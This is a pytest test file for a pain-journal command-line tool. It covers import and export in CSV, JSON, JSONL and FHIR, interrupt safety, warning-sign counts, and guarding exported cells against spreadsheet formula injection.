    monkeypatch.setattr(transfer, "read_rows", interrupted)
    rows = "date,pain\n" + "".join(f"{d(n)},3\n" for n in range(1, 21))
    result = cli("import", str(write(tmp_path, "rows.csv", rows)))
    assert result.exit_code == 130
    assert "nothing was changed" in result.stderr.lower()
    assert journal.read_bytes() == before


def signalled_at_row_10(sig: str, args: list[str]):
    """A child's target: pumpjournal ``args``, sent the real signal ``sig`` by itself part
    way through the rows it reads."""

    def run():
        real = transfer.read_rows

        def read_rows(*args, **kwargs):
            for n, item in enumerate(real(*args, **kwargs)):
                if n == 10:
                    os.kill(os.getpid(), getattr(signal, sig))
                yield item

        transfer.read_rows = read_rows  # in the child only
        pumpjournal(args)()

    return run


@pytest.mark.parametrize("sig", ["SIGINT", "SIGKILL"])
def test_a_real_interrupt_or_crash_part_way_leaves_the_journal_as_it_was(
        cli, journal, tmp_path, sig):
    if not hasattr(signal, sig):
        pytest.skip(f"no {sig} here")
    before = seed_journal(cli, journal)
    rows = "date,pain\n" + "".join(f"{d(n)},3\n" for n in range(1, 31))
    child = Child(signalled_at_row_10(sig, ["import", "-", "--format", "csv"]),
                  child_env(journal), stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                  stderr=subprocess.PIPE)
    out, err = child.communicate(rows, timeout=60)
    result = subprocess.CompletedProcess(child.args, child.returncode, out, err)
    if sig == "SIGINT":
        assert result.returncode == 130, result.stderr
        assert "nothing was changed" in result.stderr.lower()
        assert "Traceback" not in result.stderr
    else:
        assert result.returncode == -signal.SIGKILL
    assert journal.read_bytes() == before
    # the journal is usable afterwards: the lock was released with the process
    ok(cli("import", "-", "--format", "csv", input=rows))
    assert len(stored(journal)) == 31


# The summary and --json --------------------------------------------------------------------


def test_summary_counts_rows_and_warning_signs(cli, journal, tmp_path):
    result = ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
    counts = summary(result)
    assert counts["Rows read"] == "5" and counts["Imported"] == "5"
    assert counts["Updated"] == "0" and counts["Rejected"] == "0"
    # fever and chills with 100.8 F on one day: one entry with a warning sign
    assert counts["Entries with warning signs"] == "1 (EMERGENCY 0, URGENT 1)"
    assert "Error" not in result.stderr
    assert result.stdout.rstrip().endswith(NOT_ADVICE)


@pytest.mark.parametrize("rows, emergency, urgent", [
    (["very-sleepy"], 1, 0),
    (["fever;stiff-neck"], 1, 0),
    (["incision-redness"], 0, 1),
    (["cannot-walk", "leg-numbness", "nausea"], 1, 1),
    (["nausea", ""], 0, 0),
])
def test_import_counts_emergency_and_urgent_rows(cli, tmp_path, rows, emergency, urgent):
    lines = ["date,pain,symptoms"] + [f"2025-05-{n + 1:02d},3,{s}" for n, s in enumerate(rows)]
    result = ok(cli("import", str(write(tmp_path, "d.csv", "\n".join(lines) + "\n"))))
    counts = summary(result)
    assert counts["Entries with warning signs"] == (
        f"{emergency + urgent} (EMERGENCY {emergency}, URGENT {urgent})")
    assert (NOT_ADVICE in result.stdout) == bool(emergency + urgent)
    data = json.loads(ok(cli("import", str(write(tmp_path, "d.csv", "\n".join(lines) + "\n")),
                             "--json", "--on-conflict", "skip", "--dry-run")).stdout)
    assert data["emergency"] == 0 and data["urgent"] == 0  # skipped: nothing new


def test_import_json_counts_and_the_line_goes_to_stderr(cli, tmp_path):
    path = write(tmp_path, "d.csv", "date,pain,symptoms\n2025-05-01,3,seizure\n"
                                    "2025-05-02,3,chills\n")
    result = ok(cli("import", str(path), "--json"))
    data = json.loads(result.stdout)
    assert (data["warning_signs"], data["emergency"], data["urgent"]) == (2, 1, 1)
    assert NOT_ADVICE in result.stderr


@pytest.mark.parametrize("word, candidates", [
    ("swelling", ["incision-swelling", "leg-swelling"]),
    ("leaking", ["incision-drainage", "bladder-change", "bowel-change"]),
    ("hot", ["fever", "incision-warmth"]),
    ("incontinence", ["bladder-change", "bowel-change"]),
])
def test_import_refuses_a_word_with_two_meanings_naming_each(cli, journal, tmp_path, word,
                                                             candidates):
    path = write(tmp_path, "d.csv", f"date,pain,symptoms\n2025-05-01,3,{word}\n")
    result = cli("import", str(path))
    assert result.exit_code == 2
    for sid in candidates:
        assert sid in result.stderr
    assert snapshot(journal) is None


@pytest.mark.parametrize("word, sid", [("pus", "incision-drainage"), ("shivers", "chills"),
                                       ("pins and needles", "leg-tingling"),
                                       ("urine", "bladder-change")])
def test_import_takes_the_plain_words(cli_json, cli, tmp_path, word, sid):
    path = write(tmp_path, "d.csv", f"date,pain,symptoms\n2025-05-01,3,{word}\n")
    ok(cli("import", str(path)))
    assert cli_json("show", "2025-05-01")["symptoms"] == [sid]


@pytest.mark.parametrize("fmt", ["csv", "json", "jsonl"])
def test_worse_goes_out_and_comes_back_in_every_format(cli, cli_json, journal, tmp_path, fmt):
    ok(cli("profile", "--baseline-symptom", "leg-numbness"))
    ok(cli("log", "--date", "2025-05-01", "--pain", "3", "--worse", "leg-numbness"))
    out = ok(cli("export", "--format", fmt)).stdout
    assert "leg-numbness" in out
    other = tmp_path / "other.json"
    ok(cli("--journal", str(other), "import", str(write(tmp_path, f"x.{fmt}", out))))
    back = json.loads(ok(cli("--journal", str(other), "show", "2025-05-01", "--json")).stdout)
    assert back["worse"] == ["leg-numbness"] and back["symptoms"] == ["leg-numbness"]


def test_json_summary_is_the_only_stdout(cli, journal, tmp_path):
    result = ok(cli("import", str(write(tmp_path, "diary.csv", DIARY)), "--json"))
    report = json.loads(result.stdout)
    assert SUMMARY_KEYS <= report.keys()
    assert (report["rows"], report["imported"], report["rejected"]) == (5, 5, 0)
    assert report["warning_signs"] == 1 and report["errors"] == []
    assert report["rejects_file"] is None


def test_json_summary_of_a_refused_import_lists_the_errors(cli, journal, tmp_path):
    result = cli("import", str(write(tmp_path, "bad.csv", BAD_ROWS)), "--json")
    assert result.exit_code == 2
    report = json.loads(result.stdout)
    assert report["imported"] == 0 and report["rejected"] == 5 and report["rows"] == 8
    assert report["errors"][0] == {"row": 3, "column": "pain", "value": "11",
                                   "error": report["errors"][0]["error"]}
    assert PAIN_ACCEPTED in report["errors"][0]["error"]
    assert [e["row"] for e in report["errors"]] == [3, 5, 6, 7, 8]
    assert not journal.exists()


def test_json_summary_of_a_conflict(cli, journal, tmp_path):
    source = write(tmp_path, "diary.csv", DIARY)
    ok(cli("import", str(source)))
    result = cli("import", str(source), "--json")
    assert result.exit_code == 2
    report = json.loads(result.stdout)
    assert report["imported"] == 0 and report["conflicts"]


# Real processes: stdin and pipes ---------------------------------------------------------


def test_import_dash_reads_stdin_in_a_real_process(journal, tmp_path):
    result = run_input(["import", "-", "--format", "csv"], journal, DIARY)
    assert result.returncode == 0, result.stderr
    assert "Imported: 5" in result.stdout
    assert len(stored(journal)) == 5
    before = journal.read_bytes()
    bad = run_input(["import", "-", "--format", "csv", "--json", "--patient", "p009"],
                    journal, BAD_ROWS)
    assert bad.returncode == 2
    assert json.loads(bad.stdout)["rejected"] == 5  # stdout is the JSON only
    assert "row 3, column pain '11'" in bad.stderr and "Traceback" not in bad.stderr
    assert journal.read_bytes() == before


def test_export_to_stdout_pipes_into_import_from_stdin(journal, tmp_path, cli, proc):
    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
    other = tmp_path / "other" / "journal.json"
    for fmt in ("csv", "jsonl"):
        exported = proc("export", "--format", fmt, "--output", "-")
        assert exported.returncode == 0 and exported.stderr == ""
        target = other.with_name(f"{fmt}.json")
        imported = run_input(["import", "-", "--format", fmt], target, exported.stdout)
        assert imported.returncode == 0, imported.stderr
        again = run_input(["export", "--format", fmt], target, "")
        assert again.stdout == exported.stdout


def test_import_stdin_with_bom_and_crlf_in_a_real_process(journal):
    data = "\ufeff" + PLAIN.replace("\n", "\r\n")
    result = run_input(["import", "-", "--format", "csv"], journal, data)
    assert result.returncode == 0, result.stderr
    assert [e["note"] for e in stored(journal)] == ["café", "ok"]


# Export ------------------------------------------------------------------------------------


def test_export_csv_has_the_documented_columns_oldest_first_by_person(cli, journal, tmp_path):
    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY[:DIARY.index("\n") + 1]
                                + "\n".join(reversed(DIARY.strip().splitlines()[1:]))))))
    rows = list(csv.reader(io.StringIO(ok(cli("export", "--format", "csv")).stdout)))
    assert rows[0] == CSV_COLUMNS
    assert [(r[0], r[1]) for r in rows[1:]] == [("p001", d(1)), ("p001", d(2)), ("p001", d(3)),
                                                ("p002", d(1)), ("p002", d(2))]
    third = dict(zip(CSV_COLUMNS, rows[3]))
    assert third["symptoms"] == "fever;chills" and third["temperature_c"] == "38.22"
    assert third["temperature"] == "100.8 F"


def test_export_filters_by_patient_and_dates(cli, cli_json, journal, tmp_path):
    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
    lines = ok(cli("export", "--format", "jsonl", "--patient", "p001", "--since", d(2),
                   "--until", d(3))).stdout.splitlines()
    assert [(e["patient"], e["date"]) for e in map(json.loads, lines)] == [("p001", d(2)),
                                                                            ("p001", d(3))]
    whole = json.loads(ok(cli("export", "--format", "json", "--since", d(2))).stdout)
    assert [(e["patient"], e["date"]) for e in whole] == [("p001", d(2)), ("p001", d(3)),
                                                          ("p002", d(2))]
    assert set(whole[0]) == set(CSV_COLUMNS)
    unknown = cli("export", "--format", "json", "--patient", "nobody")
    assert unknown.exit_code == 2 and "no person 'nobody'" in unknown.stderr
    assert unknown.stdout == ""
    assert cli("export", "--since", d(3), "--until", d(1)).exit_code == 2


def test_export_to_a_file_is_private_and_never_replaced_without_force(cli, journal, tmp_path):
    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
    target = tmp_path / "out.jsonl"
    result = ok(cli("export", "--output", str(target)))  # the format from the name
    assert result.stdout == ""
    assert "Exported 5 readings" in result.stderr
    assert target.stat().st_mode & 0o777 == 0o600
    assert len([json.loads(x) for x in target.read_text().splitlines()]) == 5
    target.write_text("keep me")
    again = cli("export", "--output", str(target))
    assert again.exit_code == 2 and "--force" in again.stderr
    assert target.read_text() == "keep me"
    ok(cli("export", "--output", str(target), "--force"))
    assert target.read_text().count("\n") == 5


def test_export_refuses_an_unknown_format(cli, journal):
    result = cli("export", "--format", "xlsx")
    assert result.exit_code == 2 and "csv" in result.stderr and result.stdout == ""


def test_hostile_cells_are_exported_with_a_quote_and_come_back_exact(cli, journal, tmp_path):
    rows = [{"date": d(n + 1), "pain": 3, "note": text, "questions": [text]}
            for n, text in enumerate(HOSTILE)]
    ok(cli("import", str(write(tmp_path, "h.jsonl",
                                "".join(json.dumps(r) + "\n" for r in rows)))))
    exported = ok(cli("export", "--format", "csv")).stdout
    parsed = list(csv.DictReader(io.StringIO(exported)))
    assert [r["note"] for r in parsed] == ["'" + text for text in HOSTILE]
    assert [r["questions"] for r in parsed] == ["'" + text for text in HOSTILE]
    for row in parsed:
        assert not [cell for cell in row.values() if cell[:1] in ("=", "+", "-", "@")]
    other = tmp_path / "other" / "journal.json"
    ok(cli("--journal", str(other), "import", "-", "--format", "csv", input=exported))
    assert [e["note"] for e in stored(other)] == HOSTILE
    assert [e["questions"] for e in stored(other)] == [[text] for text in HOSTILE]
    assert ok(cli("--journal", str(other), "export", "--format", "csv")).stdout == exported


def rich_journal(cli, tmp_path) -> None:
    """A journal with every field used, several people, and awkward text."""
    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
    extra = [
        {"patient": "p003", "date": d(1), "pain": 0, "worst": 10, "least": 0, "average": 5,
         "symptoms": ["leg-weakness", "fever"], "temperature": "37,9 c",
         "temperature_site": "forehead", "boluses": 100, "sleep": 0, "mood": 0,
         "note": 'line one\nline two, "quoted"; semi', "questions": ["first?", "second?"],
         "contacted": True},
        {"patient": "p003", "date": d(2), "pain": 10, "note": "ümlaut ✓ 日本", "contacted": False,
         "temperature": "101 °F", "sleep": 23.75},
        {"patient": "p003", "date": d(3), "pain": 1, "note": HOSTILE[0]},
    ]
    ok(cli("import", str(write(tmp_path, "extra.jsonl",
                                "".join(json.dumps(e) + "\n" for e in extra)))))
    ok(cli("log", "--pain", "4", "--date", d(30), "--patient", "p003", "--question", "why?"))


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "json"])
def test_export_import_export_gives_the_same_bytes(cli, journal, tmp_path, fmt):
    rich_journal(cli, tmp_path)
    first = ok(cli("export", "--format", fmt)).stdout
    assert first.count("p003") >= 4
    other = tmp_path / "empty" / "journal.json"
    ok(cli("--journal", str(other), "import", "-", "--format", fmt, input=first))
    assert ok(cli("--journal", str(other), "export", "--format", fmt)).stdout == first
    assert stored(other) == stored(journal)


def test_a_note_that_begins_with_an_apostrophe_survives_the_round_trip(cli, journal,
                                                                       tmp_path):
    """Only the ' that export adds is taken off again: a note the person wrote as
    "'=not a formula" stays exactly that through JSONL and CSV."""
    note = "'=not a formula"
    ok(cli("log", "--pain", "3", "--date", d(1), "--note", note))
    for fmt in ("jsonl", "csv"):
        first = ok(cli("export", "--format", fmt)).stdout
        other = tmp_path / fmt / "journal.json"
        ok(cli("--journal", str(other), "import", "-", "--format", fmt, input=first))
        assert [e["note"] for e in stored(other)] == [note], fmt
        assert ok(cli("--journal", str(other), "export", "--format", fmt)).stdout == first


def test_a_question_with_a_line_break_survives_the_csv_round_trip(cli, journal, tmp_path):
    ok(cli("log", "--pain", "3", "--date", d(1), "--question", "Is this normal?\nIt started "
           "on Monday.", "--question", "Can we lower the dose?"))
    questions = stored(journal)[0]["questions"]
    assert len(questions) == 2
    first = ok(cli("export", "--format", "csv")).stdout
    other = tmp_path / "other" / "journal.json"
    ok(cli("--journal", str(other), "import", "-", "--format", "csv", input=first))
    assert stored(other)[0]["questions"] == questions


# JSON and JSONL rows are read one by one, not by the first row's keys -------------------------


def test_jsonl_keys_missing_from_the_first_row_are_not_dropped(cli, journal, tmp_path):
    source = write(tmp_path, "rows.jsonl",
                   json.dumps({"date": d(1), "pain": 3}) + "\n"
                   + json.dumps({"date": d(2), "pain": 4, "note": "kept",
                                 "symptoms": ["fever"]}) + "\n")
    ok(cli("import", str(source)))
    assert [(e["note"], e["symptoms"]) for e in stored(journal)] == [(None, []),
                                                                     ("kept", ["fever"])]


def test_jsonl_unknown_key_after_the_first_row_is_an_error_naming_it(cli, journal, tmp_path):
    source = write(tmp_path, "rows.jsonl",
                   json.dumps({"date": d(1), "pain": 3}) + "\n"
                   + json.dumps({"date": d(2), "pain": 4, "paine": 9}) + "\n")
    error = import_refused(cli("import", str(source)), journal, None)
    assert "paine" in error


def test_a_broken_first_jsonl_line_is_a_row_error_not_the_whole_file(cli, journal, tmp_path):
    source = write(tmp_path, "rows.jsonl", "{not json\n"
                   + json.dumps({"date": d(2), "pain": 4}) + "\n"
                   + json.dumps({"date": d(3), "pain": 5}) + "\n")
    error = import_refused(cli("import", str(source)), journal, None)
    assert "row 1" in error
    result = cli("import", str(source), "--skip-invalid", "--rejects",
                 str(tmp_path / "rejects.jsonl"))
    assert result.exit_code == 2
    assert summary(result)["Imported"] == "2" and summary(result)["Rejected"] == "1"
    assert [e["date"] for e in stored(journal)] == [d(2), d(3)]


@pytest.mark.parametrize("first, second", [(True, 1), (1, True)])
def test_json_true_is_not_taken_for_pain_1(cli, journal, tmp_path, first, second):
    """`true` is not a pain score; the row with 1 is good, whichever comes first."""
    rows = [{"date": d(1), "pain": first}, {"date": d(2), "pain": second}]
    source = write(tmp_path, "rows.json", json.dumps(rows))
    result = cli("import", str(source), "--skip-invalid", "--rejects",
                 str(tmp_path / "rejects.json"), "--json")
    report = json.loads(result.stdout)
    bad_row = 1 if first is True else 2
    assert [(e["row"], e["value"]) for e in report["errors"]] == [(bad_row, True)]
    assert [(e["date"], e["pain"]) for e in stored(journal)] == [(d(3 - bad_row), 1)]


# FHIR ------------------------------------------------------------------------------------


def fhir_bundle(cli, *args: str) -> dict:
    return json.loads(ok(cli("export", "--format", "fhir", *args)).stdout)


def resources(bundle: dict, kind: str) -> list[dict]:
    return [e["resource"] for e in bundle["entry"] if e["resource"]["resourceType"] == kind]


def test_fhir_bundle_holds_patients_and_coded_observations(cli, journal, tmp_path):
    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
    bundle = fhir_bundle(cli)
    assert bundle["resourceType"] == "Bundle" and bundle["type"] == "collection"
    patients = resources(bundle, "Patient")
    assert [p["identifier"] for p in patients] == [
        [{"system": "urn:pumpjournal:patient", "value": "p001"}],
        [{"system": "urn:pumpjournal:patient", "value": "p002"}]]
    observations = resources(bundle, "Observation")
    urls = patient_urls(bundle)  # an Observation refers to its Patient by the Patient's fullUrl
    assert all(url.startswith("urn:uuid:") for url in urls)
    assert {o["subject"]["reference"] for o in observations} == set(urls)
    day3 = [o for o in observations if o["effectiveDateTime"] == d(3)
            and o["subject"]["reference"] == urls[0]]
    pain = [o for o in day3 if o["code"]["coding"] and o["code"]["coding"][0]["code"]
            == "72514-3"]
    assert [(o["valueInteger"], o["code"]["text"]) for o in pain] == [(6, "pain right now")]
    assert {o["code"]["coding"][0]["system"] for o in pain} == {"http://loinc.org"}
    # the day's recall scores have codes of their own, in pumpjournal's code system
    recall = {o["code"]["coding"][0]["code"]: o["valueInteger"] for o in day3
              if o["code"]["coding"][0]["system"] == "urn:pumpjournal:item"
              and "valueInteger" in o}
    assert recall == {"pain-worst-24h": 8, "pain-least-24h": 4, "pain-average-24h": 6}
    temperature = [o for o in day3 if o["code"]["coding"]
                   and o["code"]["coding"][0]["code"] == "8310-5"]
    assert [o["valueQuantity"] for o in temperature] == [
        {"value": 38.22, "unit": "Cel", "system": "http://unitsofmeasure.org", "code": "Cel"}]
    assert temperature[0]["category"][0]["coding"][0]["code"] == "vital-signs"
    fever = [o for o in day3 if o.get("valueBoolean") is True
             and {"system": "http://snomed.info/sct", "code": "386661006"}
             in o["code"]["coding"]]
    assert len(fever) == 1
    assert sum(o.get("valueBoolean") is True for o in day3) == 2  # fever and chills
    assert all(o["status"] == "final" for o in observations)


def test_fhir_export_for_one_patient(cli, journal, tmp_path):
    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
    target = tmp_path / "p002.json"
    ok(cli("export", "--format", "fhir", "--patient", "p002", "--output", str(target)))
    bundle = json.loads(target.read_text())
    assert [p["id"] for p in resources(bundle, "Patient")] == ["p002"]
    assert {o["effectiveDateTime"] for o in resources(bundle, "Observation")} == {d(1), d(2)}
    assert cli("export", "--format", "fhir", "--patient", "nobody").exit_code == 2


def patient_urls(bundle: dict) -> list[str]:
    return [e["fullUrl"] for e in bundle["entry"]
            if e["resource"]["resourceType"] == "Patient"]


def _empty_parts(node, where="$"):
    """Paths of empty arrays, objects and strings: FHIR JSON allows none of them."""
    if isinstance(node, dict):
        if not node:
            yield where
        for key, value in node.items():
            yield from _empty_parts(value, f"{where}.{key}")
    elif isinstance(node, list):
        if not node:
            yield where
        for n, value in enumerate(node):
            yield from _empty_parts(value, f"{where}[{n}]")
    elif node == "":
        yield where


def test_fhir_bundle_has_no_empty_arrays(cli, journal, tmp_path):
    """FHIR JSON: "empty arrays are not allowed". A symptom without a verified SNOMED code
    is coded by text only, with no empty `coding` array."""
    source = write(tmp_path, "s.csv", f"date,pain,symptoms\n{d(1)},3,incision-soreness;fever\n")
    ok(cli("import", str(source)))
    bundle = fhir_bundle(cli)
    assert list(_empty_parts(bundle)) == []
    soreness = [o for o in resources(bundle, "Observation")
                if o["code"]["text"] == cat.BY_ID["incision-soreness"].label]
    assert len(soreness) == 1 and soreness[0]["valueBoolean"] is True


def test_fhir_patient_ids_are_valid_fhir_ids(cli, journal, tmp_path):
    """Participant ids may hold '_' (`sub_01`); a FHIR id may not ([A-Za-z0-9-.]{1,64}), so
    the Patient's id and the references to it must be valid ids all the same."""
    ok(cli("import", str(write(tmp_path, "s.csv", f"participant_id,date,pain\nsub_01,{d(1)},3\n"
                                                   f"sub_02,{d(1)},4\n"))))
    bundle = fhir_bundle(cli)
    patients = resources(bundle, "Patient")
    assert [p["identifier"][0]["value"] for p in patients] == ["sub_01", "sub_02"]
    assert all(FHIR_ID.match(p["id"]) for p in patients), [p["id"] for p in patients]
    assert len({p["id"] for p in patients}) == 2
    refs = {o["subject"]["reference"] for o in resources(bundle, "Observation")}
    assert refs == set(patient_urls(bundle))


def test_fhir_bundle_of_an_empty_journal_is_valid_json(cli, journal):
    bundle = fhir_bundle(cli)
    assert bundle["resourceType"] == "Bundle" and bundle["entry"] == []


# cohort --------------------------------------------------------------------------------------


def test_cohort_lists_each_person(cli, cli_json, journal, tmp_path):
    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
    rows = cli_json("cohort")
    by = {r["patient"]: r for r in rows}
    assert list(by) == ["p001", "p002"]
    assert (by["p001"]["days_logged"], by["p001"]["first"], by["p001"]["last"]) == (3, d(1),
                                                                                 d(3))
    assert by["p001"]["mean_pain"] == 5.0 and by["p002"]["mean_pain"] == 3.0
    assert by["p001"]["episodes"] >= 1 and by["p001"]["urgent_episodes"] >= 1
    assert by["p002"]["urgent_episodes"] == 0
    text = ok(cli("cohort")).stdout.splitlines()
    assert "days" in text[0] and "mean pain" in text[0] and "episodes" in text[0]
    line = next(x for x in text if x.startswith("p001"))
    assert line.split()[:5] == ["p001", "3", d(1), d(3), "5.0"]
    assert next(x for x in text if x.startswith("p002")).split()[:5] == ["p002", "2", d(1),
                                                                         d(2), "3.0"]


def test_cohort_mean_pain_is_over_the_days_logged(cli, cli_json, journal, tmp_path):
    source = write(tmp_path, "gaps.csv", f"patient,date,pain\nx,{d(1)},2\nx,{d(10)},5\n"
                   f"x,{d(20)},6\n")
    ok(cli("import", str(source)))
    (row,) = cli_json("cohort")
    assert row["days_logged"] == 3 and row["mean_pain"] == 4.33
    since = cli_json("cohort", "--since", d(5))
    assert since[0]["days_logged"] == 2 and since[0]["first"] == d(10)


def test_cohort_of_an_empty_journal(cli, cli_json, journal):
    assert cli_json("cohort") == []
    result = ok(cli("cohort"))
    assert result.stdout == "" and "nobody" in result.stderr


# Library use -----------------------------------------------------------------------------


# (the README's own Python examples run in test_readme.py)
def test_a_journal_the_cli_imported_into_reads_through_the_library(cli, journal, tmp_path,
                                                                    monkeypatch):
    folder = tmp_path / "notebook"
    folder.mkdir()
    monkeypatch.chdir(folder)
    ok(cli("--journal", "journal.json", "import", str(write(tmp_path, "diary.csv", DIARY))))
    journal = Journal("journal.json")
    found = [(e.date, e.pain, e.symptoms) for e in journal.entries(since=None)]
    assert sorted(found) == [(d(1), 3, []), (d(1), 5, []), (d(2), 3, ["headache"]),
                             (d(2), 4, ["incision-soreness"]), (d(3), 6, ["fever", "chills"])]
    assert journal.patients() == ["p001", "p002"]


def test_import_rows_and_export_without_the_cli(tmp_path):
    journal = Journal(tmp_path / "lib" / "journal.json")
    with journal.transaction(backup="import") as tx:
        result = transfer.import_rows(
            tx, transfer.read_rows(io.StringIO(DIARY, newline=""), "csv"),
            default_patient=None, stamp=STAMP)
    assert (result.rows, result.imported, result.rejected, result.written) == (5, 5, 0, True)
    out = io.StringIO()
    count = transfer.export(journal.read(), out, "jsonl", patient="p002")
    assert count == 2
    lines = [json.loads(line) for line in out.getvalue().splitlines()]
    # rows without logged_at: when they were logged is not known (never the import's time)
    assert [(e["date"], e["pain"], e["logged_at"], e["updated_at"]) for e in lines] == [
        (d(1), 3, None, STAMP), (d(2), 3, None, STAMP)]
    with journal.transaction() as tx:
        bad = transfer.import_rows(tx, [(2, {"date": d(9), "pain": "11"})],
                                   default_patient="p002")
    assert bad.written is False and bad.errors[0].row == 2
    assert len(journal.entries()) == 5


# Readings: one row per reading ------------------------------------------------------------


READINGS = (
    "patient,date,time,utc_offset,pain,worst,least,symptoms,temperature,note,sleep\n"
    f"p1,{d(1)},08:00,+01:00,3,7,2,,,morning,6.5\n"      # row 2
    f"p1,{d(1)},,,2,,,,,no time,\n"                      # row 3: the day's values left empty
    f"p1,{d(1)},20:15,+01:00,6,7,,headache,38.4,evening,6.5\n"  # row 4: the same again
    f"p1,{d(2)},09:30,-05:00,4,,,,,,\n"                  # row 5
)


def day_of(cli_json, day: str, patient: str = "p1") -> dict:
    (entry,) = [e for e in cli_json("list", "--patient", patient) if e["date"] == day]
    return entry


def test_several_rows_of_a_day_are_its_readings(cli, cli_json, journal, tmp_path):
    result = ok(cli("import", str(write(tmp_path, "r.csv", READINGS))))
    assert summary(result)["Imported"] == "4"
    first = day_of(cli_json, d(1))
    assert [(r["time"], r["utc_offset"], r["pain"], r["note"]) for r in first["readings"]] == [
        (None, None, 2, "no time"), ("08:00", "+01:00", 3, "morning"),
        ("20:15", "+01:00", 6, "evening")]
    # the day: pain now is the latest reading's (by time), the day's own values given once
    assert (first["pain"], first["worst"], first["least"], first["sleep"]) == (6, 7, 2, 6.5)
    assert first["symptoms"] == ["headache"] and first["temperature_c"] == 38.4
    assert len(stored(journal)) == 2
    assert [r["time"] for r in day_of(cli_json, d(2))["readings"]] == ["09:30"]


@pytest.mark.parametrize("mode, counted", [("skip", "Skipped (already there)"),
                                           ("update", "Unchanged")])
def test_reimporting_several_readings_a_day_changes_nothing(cli, journal, tmp_path, mode,
                                                            counted):
    source = write(tmp_path, "r.csv", READINGS)
    ok(cli("import", str(source)))
    before = journal.read_bytes()
    counts = summary(ok(cli("import", str(source), "--on-conflict", mode)))
    assert (counts[counted], counts["Imported"], counts["Updated"]) == ("4", "0", "0")
    assert journal.read_bytes() == before
    # the rows of a day are still checked against each other
    doubled = write(tmp_path, "d.csv", READINGS + f"p1,{d(1)},08:00,+01:00,3,7,2,,,morning,6.5\n")
    error = import_refused(cli("import", str(doubled), "--on-conflict", mode), journal, before)
    assert "row 6, column time '08:00': same person, date and time as row 2" in error


def test_a_day_with_several_readings_counts_once_among_the_warning_signs(cli, tmp_path):
    rows = ("date,time,pain,symptoms,temperature\n"
            f"{d(1)},08:00,3,chills,38.6\n{d(1)},12:00,,fever,\n{d(1)},18:00,4,chills,\n")
    counts = summary(ok(cli("import", str(write(tmp_path, "r.csv", rows)))))
    assert counts["Imported"] == "3"
    assert counts["Entries with warning signs"] == "1 (EMERGENCY 0, URGENT 1)"


def test_the_same_time_twice_in_a_file_is_a_row_error_naming_the_first(cli, journal,
                                                                      tmp_path):
    rows = ("patient,date,time,pain\n"
            f"a,{d(1)},08:00,3\n"   # row 2
            f"b,{d(1)},08:00,4\n"   # row 3: another person
            f"a,{d(1)},8:00,5\n"    # row 4: 08:00 again for a
            f"a,{d(1)},,5\n"        # row 5: untimed
            f"a,{d(1)},none,6\n")   # row 6: untimed again
    error = import_refused(cli("import", str(write(tmp_path, "t.csv", rows))), journal, None)
    assert "row 4, column time '08:00': same person, date and time as row 2" in error
    assert "row 6, column time: same person and date as row 5, and neither gives a time" in error
    assert "row 3" not in error and "2 of 5 rows" in error


def test_rows_of_a_day_must_agree_on_the_days_own_values(cli, journal, tmp_path):
    rows = ("date,time,pain,worst,sleep,questions\n"
            f"{d(1)},08:00,3,7,6.5,Is this normal?\n"    # row 2
            f"{d(1)},12:00,4,,,\n"                      # row 3: empty cells are fine
            f"{d(1)},18:00,5,8,6.5,Is this normal?\n"    # row 4: worst differs
            f"{d(1)},21:00,5,7,6.5,Another question\n")  # row 5: questions differ
    result = cli("import", str(write(tmp_path, "v.csv", rows)))
    error = import_refused(result, journal, None)
    assert "row 4, column worst '8': worst pain (24 h) differs from row 2 ('7')" in error
    # free text is never quoted in an error
    assert "row 5, column questions: questions for the visit differs from row 2," in error
    assert "normal" not in error and "Another" not in error
    assert "row 2" not in error.split("row 4")[0] and "row 3," not in error
    assert "2 of 4 rows" in error


def test_scores_of_a_day_given_on_different_rows_must_fit_together(cli, journal, tmp_path):
    rows = f"date,time,pain,least,worst\n{d(1)},08:00,3,5,\n{d(1)},12:00,4,,3\n"
    error = import_refused(cli("import", str(write(tmp_path, "s.csv", rows))), journal, None)
    assert "row 3, column worst '3': least pain (5) is higher than worst pain (3)" in error


def test_a_new_day_needs_pain_now_on_one_of_its_rows(cli, journal, tmp_path):
    rows = ("date,time,pain,temperature\n"
            f"{d(1)},08:00,,38.1\n"    # row 2
            f"{d(1)},12:00,,37.9\n"    # row 3
            f"{d(2)},08:00,,37.2\n"    # row 4: pain comes on the day's next row
            f"{d(2)},09:00,5,\n")      # row 5
    result = cli("import", str(write(tmp_path, "p.csv", rows)), "--json")
    assert result.exit_code == 2
    report = json.loads(result.stdout)
    assert [(e["row"], e["column"]) for e in report["errors"]] == [(2, "pain"), (3, "pain")]
    first, second = (e["error"] for e in report["errors"])
    assert first.startswith("pain now is required for the day's first reading")
    assert PAIN_ACCEPTED in first and "see row 2" in second
    assert not journal.exists()
    # with --skip-invalid the day with pain goes in, and both rows of the other are rejected
    rejects = tmp_path / "fix.csv"
    skipped = cli("import", str(write(tmp_path, "p.csv", rows)), "--skip-invalid", "--rejects",
                  str(rejects))
    assert (summary(skipped)["Imported"], summary(skipped)["Rejected"]) == ("2", "2")
    assert [(e["date"], [r["time"] for r in e["readings"]]) for e in stored(journal)] == [
        (d(2), ["08:00", "09:00"])]
    back = list(csv.DictReader(rejects.open(encoding="utf-8", newline="")))
    assert [(r["date"], r["time"]) for r in back] == [(d(1), "08:00"), (d(1), "12:00")]
    assert all(r["_error"] for r in back)


def test_a_later_reading_of_a_stored_day_may_leave_pain_out(cli, cli_json, journal, tmp_path):
    ok(cli("import", str(write(tmp_path, "a.csv", f"date,time,pain\n{d(1)},08:00,4\n"))))
    more = write(tmp_path, "b.csv", f"date,time,pain,temperature\n{d(1)},13:00,,38.3\n")
    assert summary(ok(cli("import", str(more))))["Imported"] == "1"
    entry = day_of(cli_json, d(1), "me")
    assert [(r["time"], r["pain"], r["temperature_c"]) for r in entry["readings"]] == [
        ("08:00", 4, None), ("13:00", None, 38.3)]
    assert entry["pain"] == 4


STORED = "date,time,pain,worst,note\n" + f"{d(1)},08:00,4,6,morning\n"


